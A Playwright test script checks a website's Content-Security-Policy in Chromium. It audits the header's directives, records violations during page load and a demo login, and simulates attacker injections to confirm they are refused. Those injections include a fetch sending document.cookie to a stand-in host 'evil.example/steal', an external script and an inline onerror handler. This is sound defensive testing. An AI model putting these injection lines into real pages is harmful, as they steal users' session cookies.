// @ts-check
// Checks the built site's Content-Security-Policy (scripts/build/csp.mjs) in Chromium, served as a host serves it
// (scripts/backend/serve.mjs applies dist/_headers):
//   1. every page answers with the header, and the policy is strict: no 'unsafe-inline', 'unsafe-eval',
//      'unsafe-hashes', wildcard or scheme source for scripts; default-src 'none'; no plugins, no framing,
//      no <base> elsewhere; API calls to the site and at most one other origin;
//   2. no page reports a violation (securitypolicyviolation events, "Refused to ..." console errors) while it
//      loads, boots and hydrates (the hashed inline scripts ran; a page that waits for a first press to load the
//      app is pressed on 'Login'), nor the login modal through a submit;
//   3. what an attacker would inject is refused: a script from another origin, an inline script, an inline
//      event handler and a fetch to another origin (each routed to an answer, so only the policy stops it).
//   npm run test:csp                      checks dist/ as it is (npm test: after the budget's production build
//                                         and after the demo build)
//   node scripts/test/csp-check.mjs <distDir>  another build
// Exit code 1 with the problems listed.
/* global window, document -- used inside page.evaluate and addInitScript, which run in the browser */
import path from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { chromePath, chromiumArgs } from './chromium.mjs';
import { serve } from '../backend/serve.mjs';

/** The public pages (a 404 among them: the host's index.html fallback) and a modal. */
export const PAGES = [
  '/',
  '/services/individual',
  '/services/familiar',
  '/termos',
  '/privacidade',
  '/espera',
  '/pagina-que-nao-existe',
  '/?mode=login',
];

const EVIL = 'https://evil.example';

/** @typedef {import('playwright-core').Page} Page */
/**
 * The page's globals this check sets: the violations it saw, and what an injection that ran leaves behind.
 * @typedef {typeof window & { __cspViolations: string[], __evil?: string, __inline?: string, __handler?: string }} CheckedWindow
 */

/**
 * Directives of a policy: { name: [sources] }.
 * @param {string} csp
 */
export function parseCsp(csp) {
  /** @type {Record<string, string[]>} */
  const out = {};
  for (const part of csp.split(';')) {
    const [name, ...sources] = part.trim().split(/\s+/);
    if (name && !(name.toLowerCase() in out)) out[name.toLowerCase()] = sources;
  }
  return out;
}

/**
 * What is too loose in a policy (empty when it is as strict as the site needs).
 * @param {string | null} csp
 */
export function auditPolicy(csp) {
  if (!csp) return ['no Content-Security-Policy header'];
  const d = parseCsp(csp);
  /** @type {string[]} */
  const problems = [];
  /** @type {(name: string, value: string) => void} */
  const expect = (name, value) => {
    if ((d[name] ?? []).join(' ') !== value)
      problems.push(`${name} is '${(d[name] ?? []).join(' ')}', not ${value}`);
  };
  expect('default-src', "'none'");
  expect('object-src', "'none'");
  expect('frame-ancestors', "'none'");
  expect('base-uri', "'self'");
  expect('form-action', "'self'");
  const scripts = d['script-src'] ?? [];
  if (!scripts.includes("'self'")) problems.push("script-src has no 'self'");
  for (const source of scripts) {
    if (source !== "'self'" && !/^'sha(256|384|512)-[A-Za-z0-9+/]+=*'$/.test(source)) {
      problems.push(`script-src allows ${source}: only 'self' and hashes of the build's inline scripts`);
    }
  }
  for (const name of ['script-src-elem', 'script-src-attr', 'style-src-elem', 'style-src-attr']) {
    if (d[name]) problems.push(`${name} is set: it would widen script-src / style-src`);
  }
  expect('style-src', "'self'");
  for (const name of ['img-src', 'connect-src', 'worker-src', 'font-src', 'frame-src', 'media-src']) {
    for (const source of d[name] ?? []) {
      const origin = /^https?:\/\/[^/*]+$/.test(source);
      const ok =
        source === "'self'" ||
        (name === 'img-src' && source === 'data:') ||
        (name === 'frame-src' && source === 'blob:') ||
        ((name === 'connect-src' || name === 'img-src') && origin);
      if (!ok) problems.push(`${name} allows ${source}`);
    }
  }
  const connect = d['connect-src'] ?? [];
  const api = connect.filter((s) => s !== "'self'");
  if (api.length > 1) problems.push(`connect-src names more than the API host: ${connect.join(' ')}`);
  for (const source of (d['img-src'] ?? []).filter((s) => /^https?:/.test(s))) {
    if (!api.includes(source)) problems.push(`img-src names ${source}, which is not the API host`);
  }
  return problems;
}

/** In the page before any of its scripts: keeps every violation it reports. */
const RECORD_VIOLATIONS = () => {
  const w = /** @type {CheckedWindow} */ (window);
  w.__cspViolations = [];
  document.addEventListener('securitypolicyviolation', (e) => {
    w.__cspViolations.push(
      `${e.effectiveDirective} blocked ${e.blockedURI || '?'} (${e.sourceFile}:${e.lineNumber})`,
    );
  });
};

/**
 * What the page itself shows of the app having started: hydrated, and React's reveal scripts run.
 * @param {Page} page
 */
async function appState(page) {
  return page.evaluate(() => {
    const root = document.getElementById('root');
    return {
      rendered: !!root && Object.keys(root).some((key) => key.startsWith('__reactContainer')),
      hiddenBoundaries: document.querySelectorAll('div[hidden][id^="S:"]').length,
    };
  });
}

/**
 * @param {Page} page
 * @param {number} [ms] how long to wait once the network is idle
 */
async function quiet(page, ms = 1000) {
  await page.waitForLoadState('networkidle', { timeout: 15_000 }).catch(() => {});
  await page.waitForTimeout(ms);
}

/**
 * The login modal, submitted with an account (the demo's; the production build's API answers nothing).
 * @param {Page} page
 */
async function submitLogin(page) {
  const dialog = page.getByRole('dialog');
  await dialog.waitFor({ timeout: 10_000 });
  await dialog.getByLabel('Email').fill('cliente@demo.com.br');
  await dialog.getByLabel('Senha').fill('Demo@2026');
  await dialog.getByRole('button', { name: 'Entrar' }).click();
  await quiet(page, 1500);
}

/**
 * Injects what an attacker would and reports what got through. `page` is loaded and quiet.
 * @param {Page} page
 */
async function injectionsGetThrough(page) {
  let reachedEvil = 0;
  await page.route(`${EVIL}/**`, (route) => {
    reachedEvil++;
    const script = route.request().url().endsWith('.js');
    return route.fulfill({
      status: 200,
      contentType: script ? 'text/javascript' : 'text/plain',
      headers: { 'access-control-allow-origin': '*' },
      body: script ? 'window.__evil = "external script ran"' : 'secret received',
    });
  });
  const outcome = await page.evaluate(async (evil) => {
    const w = /** @type {CheckedWindow} */ (window);
    const before = w.__cspViolations.length;
    const external = await new Promise((resolve) => {
      const s = document.createElement('script');
      s.src = `${evil}/x.js`;
      s.onload = () => resolve('loaded');
      s.onerror = () => resolve('refused');
      document.head.append(s);
    });
    const inline = document.createElement('script');
    inline.textContent = 'window.__inline = "inline script ran"';
    document.body.append(inline);
    const holder = document.createElement('div');
    holder.innerHTML = '<img src="data:," onerror="window.__handler = \'event handler ran\'" alt="">';
    document.body.append(holder);
    let fetched;
    try {
      fetched = await (await fetch(`${evil}/steal?c=${encodeURIComponent(document.cookie)}`)).text();
    } catch {
      fetched = 'refused';
    }
    await new Promise((r) => setTimeout(r, 300));
    return {
      ran: [
        w.__evil,
        w.__inline,
        w.__handler,
        fetched === 'refused' ? undefined : 'fetch to another origin answered',
      ].filter(Boolean),
      external,
      reported: w.__cspViolations.slice(before),
    };
  }, EVIL);
  const problems = [...outcome.ran];
  if (reachedEvil) problems.push(`${reachedEvil} request(s) reached ${EVIL}`);
  if (outcome.external !== 'refused') problems.push(`the script from ${EVIL} ${outcome.external}`);
  for (const directive of ['script-src-elem', 'script-src-attr', 'connect-src']) {
    if (!outcome.reported.some((v) => v.startsWith(directive)))
      problems.push(`no ${directive} violation reported`);
  }
  return problems;
}

/**
 * Serves `distDir` with its `_headers` and checks it. `pages`: paths to visit (default PAGES, the app's);
 * `login`: whether /?mode=login is submitted; `app`: whether each page must show the React app started.
 * Resolves to { csp, problems }.
 * @param {string} [distDir]
 * @param {{ pages?: string[], login?: boolean, app?: boolean, port?: number }} [options]
 */
export async function checkCsp(distDir = 'dist', { pages = PAGES, login = true, app = true, port = 0 } = {}) {
  const server = await serve(path.resolve(distDir), { port });
  const { chromium } = await import('playwright-core');
  const browser = await chromium.launch({ executablePath: chromePath, args: chromiumArgs });
  /** @type {string[]} */
  const problems = [];
  /** @type {string | null} */
  let csp = null;
  try {
    for (const urlPath of pages) {
      const context = await browser.newContext({ locale: 'pt-BR' });
      const page = await context.newPage();
      await page.addInitScript(RECORD_VIOLATIONS);
      /** @type {string[]} */
      const consoleCsp = [];
      page.on('console', (m) => {
        if (m.type() === 'error' && /Content Security Policy|Refused to/i.test(m.text()))
          consoleCsp.push(m.text());
      });
      const response = await page.goto(new URL(urlPath, server.url).href);
      const header = response?.headers()['content-security-policy'] ?? null;
      if (csp === null) csp = header;
      if (!header) problems.push(`${urlPath}: no Content-Security-Policy header`);
      else if (header !== csp) problems.push(`${urlPath}: a different policy from the first page's`);
      await quiet(page);
      if (login && urlPath === '/?mode=login') await submitLogin(page);
      let state = await appState(page);
      // A production build's public page loads the app at a first press (scripts/build/boot-script.mjs): 'Login'.
      if (app && !state.rendered) {
        await page.getByRole('navigation', { name: 'Conta' }).getByRole('button').first().click();
        await page
          .getByRole('dialog')
          .waitFor({ timeout: 15_000 })
          .catch(() => {});
        await quiet(page);
        state = await appState(page);
      }
      if (app && !state.rendered) problems.push(`${urlPath}: the app did not start (no React root)`);
      if (state.hiddenBoundaries)
        problems.push(`${urlPath}: ${state.hiddenBoundaries} prerendered part(s) left hidden`);
      const violations = await page.evaluate(() => /** @type {CheckedWindow} */ (window).__cspViolations);
      for (const v of violations) problems.push(`${urlPath}: violation: ${v}`);
      for (const m of consoleCsp) problems.push(`${urlPath}: console: ${m}`);
      if (urlPath === pages[0])
        for (const p of await injectionsGetThrough(page)) problems.push(`${urlPath}: injected: ${p}`);
      await context.close();
    }
  } finally {
    await browser.close();
    await server.close();
  }
  problems.unshift(...auditPolicy(csp));
  return { csp, problems };
}

if (process.argv[1] && import.meta.url === pathToFileURL(path.resolve(process.argv[1])).href) {
  const distDir = process.argv[2] ?? fileURLToPath(new URL('../../dist', import.meta.url));
  const { csp, problems } = await checkCsp(distDir);
  console.log(`Content-Security-Policy: ${csp}`);
  if (problems.length) {
    console.error(`CSP check failed (${distDir}):\n${problems.map((p) => `  - ${p}`).join('\n')}`);
    process.exit(1);
  }
  console.log(
    `CSP check passed: ${PAGES.length} pages without a violation; injected scripts, handler and fetch refused.`,
  );
}
